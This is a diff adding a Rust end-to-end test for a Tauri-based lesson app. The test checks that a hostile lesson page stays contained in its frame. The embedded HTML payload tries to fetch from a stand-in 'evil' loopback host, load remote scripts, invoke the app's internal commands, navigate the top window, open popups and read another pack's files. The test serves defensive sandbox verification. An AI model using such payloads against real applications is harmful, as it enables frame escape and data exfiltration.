@@ -1,0 +1,132 @@
+//! A hostile lesson tries to reach the network, call the app's commands,
+//! navigate or replace the app's window, open popups and read another
+//! pack's files. Every attempt is checked from outside the frame.
+
+use std::io::Read;
+use std::net::TcpListener;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
+
+use anyhow::Result;
+use fantoccini::Locator;
+use kalamu_core::Store;
+use kalamu_e2e::{App, install_raw_pack};
+
+const PNG: &[u8] = &[
+    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00,
+    0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4, 0x89, 0x00,
+    0x00, 0x00, 0x0d, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0xf8, 0xcf, 0xc0, 0xf0, 0x1f, 0x00, 0x05,
+    0x00, 0x01, 0xff, 0x89, 0x99, 0x3d, 0x1d, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42,
+    0x60, 0x82,
+];
+
+/// Counts every connection made to a loopback port, as a would-be exfiltration server.
+fn listener() -> Result<(u16, Arc<AtomicUsize>)> {
+    let server = TcpListener::bind("127.0.0.1:0")?;
+    server.set_nonblocking(true)?;
+    let port = server.local_addr()?.port();
+    let hits = Arc::new(AtomicUsize::new(0));
+    let counter = hits.clone();
+    std::thread::spawn(move || {
+        let deadline = std::time::Instant::now() + Duration::from_secs(120);
+        while std::time::Instant::now() < deadline {
+            if let Ok((mut s, _)) = server.accept() {
+                counter.fetch_add(1, Ordering::SeqCst);
+                let _ = s.read(&mut [0u8; 1024]);
+            }
+            std::thread::sleep(Duration::from_millis(10));
+        }
+    });
+    Ok((port, hits))
+}
+
+#[tokio::test(flavor = "current_thread")]
+async fn hostile_lesson_is_contained_in_its_frame() -> Result<()> {
+    let data = tempfile::tempdir()?;
+    let (port, hits) = listener()?;
+    let evil = format!("http://127.0.0.1:{port}");
+    install_raw_pack(
+        data.path(),
+        "org.example.secret",
+        "secret.html",
+        &[("secret.html", b"<p>secret</p>"), ("secret.png", PNG)],
+    )?;
+    let page = format!(
+        r#"<!doctype html><html><head><meta charset="utf-8">
+<meta http-equiv="refresh" content="1;url={evil}/refresh">
+<link rel="stylesheet" href="{evil}/style.css">
+<script src="{evil}/evil.js"></script>
+<script>
+  document.body && document.body.setAttribute("data-pwned", "inline");
+  window.__pwned = true;
+  try {{ fetch("{evil}/fetch"); }} catch (e) {{}}
+  try {{ window.__TAURI_INTERNALS__.invoke("add_learner", {{ name: "Intruder" }}); }} catch (e) {{}}
+  try {{ parent.__TAURI_INTERNALS__.invoke("add_learner", {{ name: "Intruder" }}); }} catch (e) {{}}
+  try {{ top.location = "{evil}/top"; }} catch (e) {{}}
+  try {{ window.open("{evil}/popup"); }} catch (e) {{}}
+</script></head>
+<body><h1>Innocent lesson</h1>
+<img id="own" src="pic.png">
+<img id="foreign" src="kalamu-lesson://org.example.secret/secret.png">
+<img id="remote" src="{evil}/img.png">
+<video src="{evil}/video.webm" autoplay></video>
+<iframe src="{evil}/frame"></iframe>
+<object data="{evil}/object"></object>
+<form action="{evil}/form" method="post"><input name="x" value="y"></form>
+</body></html>"#
+    );
+    install_raw_pack(
+        data.path(),
+        "org.example.hostile",
+        "lesson.html",
+        &[("lesson.html", page.as_bytes()), ("pic.png", PNG)],
+    )?;
+    let learner = Store::open_dir(data.path())?.add_learner("Binta")?;
+    Store::open_dir(data.path())?.set_current_learner(&learner.id)?;
+
+    let app = App::start(data.path()).await?;
+    app.click("[data-pack-id='org.example.hostile'] [data-testid=open-pack]").await?;
+    app.click("[data-lesson-id=lesson]").await?;
+    let frame = app
+        .client
+        .wait()
+        .at_most(kalamu_e2e::WAIT)
+        .for_element(Locator::Css("[data-testid=lesson-frame]"))
+        .await?;
+    frame.enter_frame().await?;
+    app.client.wait().at_most(kalamu_e2e::WAIT).for_element(Locator::Css("h1")).await?;
+    tokio::time::sleep(Duration::from_secs(3)).await; // give every attempt (and the meta refresh) its chance
+    let verdict = app
+        .client
+        .execute(
+            "const w = id => document.getElementById(id).naturalWidth;
+             return { own: w('own'), foreign: w('foreign'), remote: w('remote'),
+                      pwned: document.body.getAttribute('data-pwned'), flag: window.__pwned === true,
+                      url: location.href };",
+            vec![],
+        )
+        .await?;
+    app.client.enter_parent_frame().await?;
+    app.screenshot("hostile-lesson").await?;
+
+    assert_eq!(verdict["own"], 1, "the lesson's own image loads: {verdict}");
+    assert_eq!(verdict["foreign"], 0, "another pack's file is out of reach: {verdict}");
+    assert_eq!(verdict["remote"], 0, "no image from the network: {verdict}");
+    assert!(verdict["pwned"].is_null() && verdict["flag"] == false, "no lesson script ran: {verdict}");
+    assert!(
+        verdict["url"].as_str().unwrap().starts_with("kalamu-lesson://org.example.hostile/"),
+        "the frame stayed put: {verdict}"
+    );
+    // The app's own window was neither navigated nor replaced.
+    let top = app.client.current_url().await?;
+    assert!(!top.as_str().contains("127.0.0.1"), "the window navigated to {top}");
+    app.text_of("[data-testid=lesson-view]").await?;
+    assert_eq!(app.client.windows().await?.len(), 1, "no popup opened");
+    app.close().await?;
+
+    assert_eq!(hits.load(Ordering::SeqCst), 0, "the lesson reached the network");
+    let names: Vec<_> = Store::open_dir(data.path())?.learners()?.into_iter().map(|l| l.name).collect();
+    assert_eq!(names, ["Binta"], "the lesson called an app command");
+    Ok(())
+}
